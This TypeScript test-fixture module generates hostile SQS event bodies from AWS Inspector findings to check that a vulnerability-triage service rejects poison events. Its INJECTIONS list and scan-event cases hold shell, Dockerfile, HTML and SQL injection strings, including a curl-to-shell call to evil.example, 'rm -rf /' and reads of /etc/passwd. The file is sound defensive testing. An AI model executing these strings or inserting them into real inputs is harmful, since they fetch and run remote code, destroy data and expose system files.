/**
 * A corpus of hostile inputs for triage, generated from the real Inspector fixtures
 * (/work/shared/fixtures/inspector, copied in test/fixtures/events): each case is one SQS body and
 * what triage must make of it. Deterministic: the same list every run.
 *
 * Expectations:
 * - `decided`: a valid event, however odd; triage decides it (remediate, approve, notify or ignore).
 * - `rejected`: a poison event; triage rejects it with a reason and never retries it.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

export type Expectation = 'decided' | 'rejected';

export interface HostileCase {
  readonly name: string;
  readonly category: string;
  readonly body: string;
  readonly expect: Expectation;
}

const FIXTURES = join(__dirname, '..', 'fixtures', 'events');
const load = (file: string): Record<string, unknown> =>
  JSON.parse(readFileSync(join(FIXTURES, file), 'utf8')) as Record<string, unknown>;

/** The real finding from the Inspector documentation (both image shapes, Java-style timestamps). */
export const UBUNTU = load('finding-ecr-ubuntu-2024.json');
/** CRITICAL, console timestamps, only awsEcrContainerImage, NPM + OS packages. */
export const NPM = load('finding-ecr-critical-npm-console-timestamps.json');
/** An EC2 instance finding (no image). */
export const EC2 = load('finding-ec2-instance-high.json');
/** The real Inspector2 Scan event. */
export const SCAN = load('scan-initial-complete.json');

export const ACCOUNT = '123456789012';
export const REGION = 'eu-central-1';
export const UBUNTU_DIGEST = 'sha256:84f507df33c6864d49c296fb734192696e4cb6f78166ac51ac8b9b118181085d';
export const NPM_DIGEST = 'sha256:3c9e0b4a5d6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809';

type Json = Record<string, unknown>;
type Path = ReadonlyArray<string | number>;
const DELETE = Symbol('delete');

/** A copy of `event` with the value at `path` replaced (or deleted). */
export const withValue = (event: Json, path: Path, value: unknown): Json => {
  const copy = structuredClone(event);
  let node = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path[path.length - 1] as string | number;
  if (value === DELETE) delete node[last];
  else node[last] = value;
  return copy;
};

/** Give a finding its own ARN, so that no two cases are one finding's duplicate deliveries. */
export const asFinding = (event: Json, id: string): Json => {
  const detail = event.detail as Json | undefined;
  if (typeof detail !== 'object' || detail === null || typeof detail.findingArn !== 'string') return event;
  if (
    !detail.findingArn.includes('{{FINDING_ID}}') &&
    !detail.findingArn.endsWith('/7b1d6c2e9f0a4b3c8d5e6f7a8b9c0d1e')
  )
    return event;
  return withValue(event, ['detail', 'findingArn'], `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/${id}`);
};

const imagePath = (shape: string, field: string): Path => ['detail', 'resources', 0, 'details', shape, field];

/** Set an image field in both shapes of the real finding (they must agree, or that is the rejection). */
const bothShapes =
  (ecrField: string, neutralField = ecrField) =>
  (event: Json, value: unknown): Json =>
    withValue(
      withValue(event, imagePath('awsEcrContainerImage', ecrField), value),
      imagePath('image', neutralField),
      value,
    );

const at =
  (...path: Path) =>
  (event: Json, value: unknown): Json =>
    withValue(event, path, value);

/** Fields of the real finding a hostile value is put into, each with how to put it there. */
const FIELDS: Record<string, (event: Json, value: unknown) => Json> = {
  findingArn: at('detail', 'findingArn'),
  updatedAt: at('detail', 'updatedAt'),
  firstObservedAt: at('detail', 'firstObservedAt'),
  title: at('detail', 'title'),
  severity: at('detail', 'severity'),
  status: at('detail', 'status'),
  vulnerabilityId: at('detail', 'packageVulnerabilityDetails', 'vulnerabilityId'),
  repositoryName: bothShapes('repositoryName'),
  imageDigest: bothShapes('imageHash', 'imageDigest'),
  imageTag: (event, value) => bothShapes('imageTags')(event, [value]),
  registry: bothShapes('registry'),
  platform: bothShapes('platform'),
  architecture: bothShapes('architecture'),
  resourceRegion: at('detail', 'resources', 0, 'region'),
  resourceId: at('detail', 'resources', 0, 'id'),
  resourceType: at('detail', 'resources', 0, 'type'),
  packageName: at('detail', 'packageVulnerabilityDetails', 'vulnerablePackages', 0, 'name'),
  packageManager: at('detail', 'packageVulnerabilityDetails', 'vulnerablePackages', 0, 'packageManager'),
  awsAccountId: at('detail', 'awsAccountId'),
  envelopeRegion: at('region'),
  envelopeAccount: at('account'),
};

const VALID: Record<string, string> = {
  findingArn: `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/abc`,
  updatedAt: 'Wed Sep 04 16:55:38.411 UTC 2024',
  title: 'CVE-2024-6119 - openssl',
  vulnerabilityId: 'CVE-2024-6119',
  repositoryName: 'inspector2',
  imageTag: 'ubuntu_latest',
  platform: 'UBUNTU_24_04',
  packageName: 'openssl',
  resourceId: `arn:aws:ecr:${REGION}:${ACCOUNT}:repository/inspector2/${UBUNTU_DIGEST}`,
  resourceRegion: REGION,
  awsAccountId: ACCOUNT,
  resourceType: 'AWS_ECR_CONTAINER_IMAGE',
};

const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const oversize = (): HostileCase[] => {
  // Each value is well-formed but for its length; `max` is the longest the schema accepts.
  const grow: Record<string, { value: (n: number) => string; max: number }> = {
    findingArn: {
      value: (n) => `arn:aws:inspector2:${REGION}:${ACCOUNT}:finding/${'a'.repeat(n)}`,
      max: 128,
    },
    updatedAt: { value: (n) => 'Wed Sep 04 16:55:38.411 UTC 2024'.padEnd(n, ' '), max: 64 },
    title: { value: (n) => 'T'.repeat(n), max: 1_024 },
    vulnerabilityId: { value: (n) => `CVE-2024-${'1'.repeat(n)}`, max: 119 },
    repositoryName: { value: (n) => 'a'.repeat(n), max: 256 },
    imageTag: { value: (n) => 't'.repeat(n), max: 128 },
    platform: { value: (n) => 'P'.repeat(n), max: 128 },
    packageName: { value: (n) => 'p'.repeat(n), max: 2_048 },
    resourceId: { value: (n) => 'r'.repeat(n), max: 2_048 },
    description: { value: (n) => 'd'.repeat(n), max: 65_536 },
  };
  const cases: HostileCase[] = [];
  for (const [field, { value, max }] of Object.entries(grow)) {
    for (const n of [129, 300, 2_100, 70_000, 300_000]) {
      const put = FIELDS[field] ?? at('detail', field);
      cases.push({
        name: `${field} of ${n} characters`,
        category: 'oversize',
        body: JSON.stringify(put(UBUNTU, value(n))),
        // 300,000 characters make a body larger than any EventBridge event.
        expect: n <= max && n < 200_000 ? 'decided' : 'rejected',
      });
    }
  }
  return cases;
};

const wrongTypes = (): HostileCase[] => {
  const cases: HostileCase[] = [];
  for (const [field, put] of Object.entries(FIELDS)) {
    for (const [label, value] of [
      ['a number', 42],
      ['null', null],
      ['true', true],
      ['an array', ['x']],
      ['an object', { value: 'x' }],
    ] as const) {
      cases.push({
        name: `${field} as ${label}`,
        category: 'wrong type',
        body: JSON.stringify(put(UBUNTU, value)),
        expect: 'rejected',
      });
    }
  }
  for (const [path, value] of [
    [['detail', 'inspectorScore'], '9.8'],
    [['detail', 'inspectorScore'], -1],
    [['detail', 'inspectorScore'], 10.5],
    [['detail', 'epss', 'score'], 1.5],
    [['detail', 'resources'], {}],
    [['detail', 'resources'], []],
    [['detail', 'packageVulnerabilityDetails', 'vulnerablePackages'], 'openssl'],
    [['detail'], 'detail'],
    [['detail', 'resources', 0, 'details'], []],
    [['detail', 'resources', 0, 'tags'], { team: 42 }],
  ] as const) {
    cases.push({
      name: `${path.join('.')} = ${JSON.stringify(value)}`,
      category: 'wrong type',
      body: JSON.stringify(withValue(UBUNTU, path, value)),
      expect: 'rejected',
    });
  }
  return cases;
};

const controlCharacters = (): HostileCase[] => {
  const cases: HostileCase[] = [];
  const inserts: ReadonlyArray<readonly [string, string]> = [
    ['a newline', '\n'],
    ['CRLF', '\r\n'],
    ['NUL', '\u0000'],
    ['an ANSI escape', '\u001b[31m'],
    ['U+2028', '\u2028'],
    ['a bidi override', '\u202e'],
    ['NEL', '\u0085'],
    ['a tab', '\t'],
    ['a zero-width space', '\u200b'],
  ];
  for (const field of Object.keys(VALID)) {
    const put = FIELDS[field] as (event: Json, value: unknown) => Json;
    const valid = VALID[field] as string;
    for (const [label, insert] of inserts) {
      const middle = Math.floor(valid.length / 2);
      cases.push({
        name: `${field} with ${label}`,
        category: 'control characters',
        body: JSON.stringify(put(UBUNTU, `${valid.slice(0, middle)}${insert}${valid.slice(middle)}`)),
        expect: 'rejected',
      });
    }
  }
  return cases;
};

const unicode = (): HostileCase[] => {
  const cases: Array<[string, string, Expectation]> = [
    ['repositoryName', 'ünïcode', 'rejected'],
    ['repositoryName', 'ｐａｙｍｅｎｔｓ', 'rejected'],
    ['repositoryName', 'p\u0430yments', 'rejected'], // Cyrillic a
    ['repositoryName', 'repo/🐛', 'rejected'],
    ['vulnerabilityId', 'CVE-２０２４-6119', 'rejected'],
    ['vulnerabilityId', 'CVE-2024-٦١١٩', 'rejected'],
    ['imageTag', 'tägg', 'rejected'],
    ['imageTag', '🏷', 'rejected'],
    ['platform', 'ÜBUNTU', 'rejected'],
    ['updatedAt', 'Wed Sep 04 16:55:38.411 UTC ２０２４', 'rejected'],
    ['title', 'CVE-2024-6119 — ünïcödé 🐛', 'decided'],
    ['title', 'עברית CVE-2024-6119', 'decided'],
    ['packageName', 'ünï-pkg', 'decided'],
    ['resourceId', 'arn:aws:ecr:eu-central-1:123456789012:repository/ünï', 'decided'],
    ['title', '\ud800 lone surrogate', 'decided'],
  ];
  return cases.map(([field, value, expect]) => ({
    name: `${field} ${JSON.stringify(value)}`,
    category: 'unicode',
    body: JSON.stringify((FIELDS[field] as (e: Json, v: unknown) => Json)(UBUNTU, value)),
    expect,
  }));
};

const invalidDigests = (): HostileCase[] => {
  const hex = UBUNTU_DIGEST.slice('sha256:'.length);
  const digests: ReadonlyArray<readonly [string, string]> = [
    ['md5', `md5:${hex.slice(0, 32)}`],
    ['uppercase hex', `sha256:${hex.toUpperCase()}`],
    ['uppercase algorithm', `SHA256:${hex}`],
    ['63 digits', `sha256:${hex.slice(1)}`],
    ['65 digits', `sha256:${hex}0`],
    ['sha512', `sha512:${hex}${hex}`],
    ['non-hex', `sha256:${'g'.repeat(64)}`],
    ['a leading space', ` ${UBUNTU_DIGEST}`],
    ['a trailing newline', `${UBUNTU_DIGEST}\n`],
    ['empty', ''],
    ['the algorithm only', 'sha256:'],
    ['a path', 'sha256:../../../../etc/passwd'],
  ];
  const cases: HostileCase[] = [];
  for (const [label, digest] of digests) {
    cases.push(
      {
        name: `digest with ${label}, both shapes`,
        category: 'invalid digest',
        body: JSON.stringify((FIELDS.imageDigest as (e: Json, v: unknown) => Json)(UBUNTU, digest)),
        expect: 'rejected',
      },
      {
        name: `digest with ${label}, awsEcrContainerImage only`,
        category: 'invalid digest',
        body: JSON.stringify(withValue(NPM, imagePath('awsEcrContainerImage', 'imageHash'), digest)),
        expect: 'rejected',
      },
      {
        name: `digest with ${label}, image only`,
        category: 'invalid digest',
        body: JSON.stringify(
          withValue(
            withValue(UBUNTU, ['detail', 'resources', 0, 'details', 'awsEcrContainerImage'], DELETE),
            imagePath('image', 'imageDigest'),
            digest,
          ),
        ),
        expect: 'rejected',
      },
    );
  }
  return cases;
};

/** Strings meant to break out of a shell command, a Dockerfile, a markdown or HTML rendering. */
export const INJECTIONS = [
  '$(curl -s https://evil.example | sh)',
  '`id`',
  'a;rm -rf /',
  'a && curl evil.example',
  "a' OR '1'='1",
  '"quoted"',
  'FROM scratch',
  'x\nRUN curl https://evil.example | sh',
  '[click me](https://evil.example)',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell injection, not a template
  '${IFS}cat${IFS}/etc/passwd',
  '../../etc/passwd',
  '--help',
  '-rf',
  '*',
  '#comment',
  '|tee /tmp/x',
  '%0aRUN id',
  'a\\nb',
];

const injections = (): HostileCase[] => {
  const cases: HostileCase[] = [];
  for (const field of [
    'repositoryName',
    'imageTag',
    'vulnerabilityId',
    'platform',
    'architecture',
    'title',
  ]) {
    for (const value of INJECTIONS) {
      cases.push({
        name: `${field} ${JSON.stringify(value)}`,
        category: 'injection',
        body: JSON.stringify((FIELDS[field] as (e: Json, v: unknown) => Json)(UBUNTU, value)),
        // Titles are free text that never reaches a shell or a build: only control characters are refused.
        expect: field === 'title' && !UNSAFE.test(value) ? 'decided' : 'rejected',
      });
    }
  }
  return cases;
};

const missingFields = (): HostileCase[] => {
  const required: Path[] = [
    ['detail', 'findingArn'],
    ['detail', 'updatedAt'],
    ['detail', 'severity'],
    ['detail', 'status'],
    ['detail', 'type'],
    ['detail', 'title'],
    ['detail', 'awsAccountId'],
    ['detail', 'resources'],
    ['detail', 'resources', 0, 'type'],
    ['detail', 'resources', 0, 'id'],
    ['detail', 'resources', 0, 'details'],
    ['detail', 'packageVulnerabilityDetails'],
    ['detail', 'packageVulnerabilityDetails', 'vulnerabilityId'],
    ['detail'],
    ['region'],
    ['account'],
    ['time'],
    ['id'],
    ['source'],
    ['detail-type'],
  ];
  const optional: Path[] = [
    ['detail', 'firstObservedAt'],
    ['detail', 'lastObservedAt'],
    ['detail', 'epss'],
    ['detail', 'fixAvailable'],
    ['detail', 'exploitAvailable'],
    ['detail', 'description'],
    ['detail', 'resources', 0, 'region'],
    ['detail', 'packageVulnerabilityDetails', 'vulnerablePackages'],
  ];
  const cases: HostileCase[] = [
    ...required.map((path) => ({
      name: `without ${path.join('.')}`,
      category: 'missing field',
      body: JSON.stringify(withValue(UBUNTU, path, DELETE)),
      expect: 'rejected' as const,
    })),
    ...optional.map((path) => ({
      name: `without ${path.join('.')}`,
      category: 'missing field',
      body: JSON.stringify(withValue(UBUNTU, path, DELETE)),
      expect: 'decided' as const,
    })),
  ];
  for (const field of ['repositoryName', 'imageHash', 'registry', 'imageTags', 'platform']) {
    const neutral = field === 'imageHash' ? 'imageDigest' : field;
    const both = withValue(
      withValue(UBUNTU, imagePath('awsEcrContainerImage', field), DELETE),
      imagePath('image', neutral),
      DELETE,
    );
    cases.push({
      name: `without image ${field} in either shape`,
      category: 'missing field',
      body: JSON.stringify(both),
      expect: field === 'repositoryName' || field === 'imageHash' ? 'rejected' : 'decided',
    });
  }
  return cases;
};

const extraResources = (): HostileCase[] => {
  const resources = (UBUNTU.detail as { resources: Json[] }).resources;
  const ecr = resources[0] as Json;
  const ec2 = {
    type: 'AWS_EC2_INSTANCE',
    id: 'arn:aws:ec2:eu-central-1:123456789012:instance/i-0abc',
    region: REGION,
  };
  const lambda = {
    type: 'AWS_LAMBDA_FUNCTION',
    id: 'arn:aws:lambda:eu-central-1:123456789012:function:f',
    region: REGION,
  };
  const otherImage = withValue(
    withValue(ecr, ['details', 'awsEcrContainerImage', 'imageHash'], NPM_DIGEST),
    ['details', 'image', 'imageDigest'],
    NPM_DIGEST,
  );
  const cases: Array<[string, unknown[], Expectation]> = [
    ['the ECR image after an EC2 instance', [ec2, ecr], 'decided'],
    ['the ECR image after five other resources', [ec2, lambda, ec2, lambda, ec2, ecr], 'decided'],
    ['the same ECR image twice', [ecr, ecr], 'decided'],
    ['two different ECR images', [ecr, otherImage], 'rejected'],
    ['101 resources', Array.from({ length: 101 }, () => ecr), 'rejected'],
    ['only an EC2 instance and a Lambda function', [ec2, lambda], 'decided'],
    ['a resource that is not an object', ['arn:aws:ecr:x', ecr], 'rejected'],
  ];
  return cases.map(([name, list, expect]) => ({
    name,
    category: 'extra resources',
    body: JSON.stringify(withValue(UBUNTU, ['detail', 'resources'], list)),
    expect,
  }));
};

const bodies = (): HostileCase[] => {
  const deepArray = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
  let deep: unknown = 'bottom';
  for (let i = 0; i < 2_000; i++) deep = { nested: deep };
  const cases: Array<[string, string, Expectation]> = [
    ['not JSON', '{not json', 'rejected'],
    ['an empty body', '', 'rejected'],
    ['null', 'null', 'rejected'],
    ['a number', '42', 'rejected'],
    ['a string', '"Inspector2 Finding"', 'rejected'],
    ['an empty array', '[]', 'rejected'],
    ['an array holding the finding', JSON.stringify([UBUNTU]), 'rejected'],
    ['true', 'true', 'rejected'],
    ['only a source', '{"source":"aws.inspector2"}', 'rejected'],
    ['20,000 nested arrays', deepArray, 'rejected'],
    ['2,000 nested objects under an unknown key', JSON.stringify({ ...UBUNTU, extra: deep }), 'decided'],
    ['2,000 nested objects as the detail', JSON.stringify({ ...UBUNTU, detail: deep }), 'rejected'],
    [
      'a foreign event',
      JSON.stringify({
        ...UBUNTU,
        source: 'aws.ec2',
        'detail-type': 'EC2 Instance State-change Notification',
      }),
      'rejected',
    ],
    ['a finding padded past 256 KB', `${' '.repeat(300_000)}${JSON.stringify(UBUNTU)}`, 'rejected'],
    ['a finding with a byte-order mark', `\ufeff${JSON.stringify(UBUNTU)}`, 'rejected'],
    [
      '__proto__ keys',
      JSON.stringify(UBUNTU).replace(
        '"detail":{',
        '"__proto__":{"polluted":true},"detail":{"__proto__":{"status":"ACTIVE"},',
      ),
      'decided',
    ],
    [
      'Infinity as inspectorScore',
      JSON.stringify(UBUNTU).replace('"detail":{', '"detail":{"inspectorScore":1e999,'),
      'rejected',
    ],
    ['the real scan event', JSON.stringify(SCAN), 'decided'],
    [
      'a scan event with an md5 digest',
      JSON.stringify(withValue(SCAN, ['detail', 'image-digest'], 'md5:abc')),
      'rejected',
    ],
    [
      'a scan event with a newline in its repository',
      JSON.stringify(
        withValue(
          SCAN,
          ['detail', 'repository-name'],
          'arn:aws:ecr:eu-central-1:123456789012:repository/a\nb',
        ),
      ),
      'rejected',
    ],
    [
      'a scan event with an injected repository',
      JSON.stringify(
        withValue(
          SCAN,
          ['detail', 'repository-name'],
          'arn:aws:ecr:eu-central-1:123456789012:repository/$(id)',
        ),
      ),
      'rejected',
    ],
  ];
  return cases.map(([name, body, expect]) => ({ name, category: 'body', body, expect }));
};

const timestamps = (): HostileCase[] => {
  const cases: Array<[string, Expectation]> = [
    ['2024-13-45T00:00:00Z', 'rejected'],
    ['Feb 30, 2024, 1:00:00 PM', 'rejected'],
    ['Wed Sep 04 16:55:38.411 PST 2024', 'rejected'],
    ['Wed Sep 04 16:55:38.411 UTC 0001', 'rejected'],
    ['99999999999999999999', 'rejected'],
    ['', 'rejected'],
    ['yesterday', 'rejected'],
    ['1725468938', 'decided'],
    ['2024-09-04T16:55:38.411+14:00', 'decided'],
    ['Sep 4, 2024, 4:55:38\u202fPM', 'decided'],
  ];
  return cases.map(([value, expect]) => ({
    name: `updatedAt ${JSON.stringify(value)}`,
    category: 'timestamp',
    body: JSON.stringify(withValue(UBUNTU, ['detail', 'updatedAt'], value)),
    expect,
  }));
};

/**
 * The whole corpus. Each case's finding gets its own ARN (`hostile-<n>`) unless the case is about the
 * ARN itself, so no two cases are deliveries of one finding.
 */
export const hostileCorpus = (): HostileCase[] => {
  const all = [
    ...oversize(),
    ...wrongTypes(),
    ...controlCharacters(),
    ...unicode(),
    ...invalidDigests(),
    ...injections(),
    ...missingFields(),
    ...extraResources(),
    ...bodies(),
    ...timestamps(),
  ];
  return all.map((c, i) => {
    if (c.body.length > 200_000 || !c.body.startsWith('{')) return c;
    try {
      return { ...c, body: JSON.stringify(asFinding(JSON.parse(c.body) as Json, `hostile-${i}`)) };
    } catch {
      return c;
    }
  });
};

/** A valid finding of the real Ubuntu image with its own ARN and CVE: always remediated. */
export const validFinding = (
  n: number,
  overrides: { digest?: string; repository?: string; cve?: string } = {},
): Json => {
  let event = asFinding(UBUNTU, `valid-${n}`);
  event = withValue(event, ['detail', 'severity'], 'HIGH');
  event = withValue(
    event,
    ['detail', 'packageVulnerabilityDetails', 'vulnerabilityId'],
    overrides.cve ?? `CVE-2024-${10_000 + n}`,
  );
  if (overrides.digest)
    event = (FIELDS.imageDigest as (e: Json, v: unknown) => Json)(event, overrides.digest);
  if (overrides.repository)
    event = (FIELDS.repositoryName as (e: Json, v: unknown) => Json)(event, overrides.repository);
  return event;
};

export { DELETE };
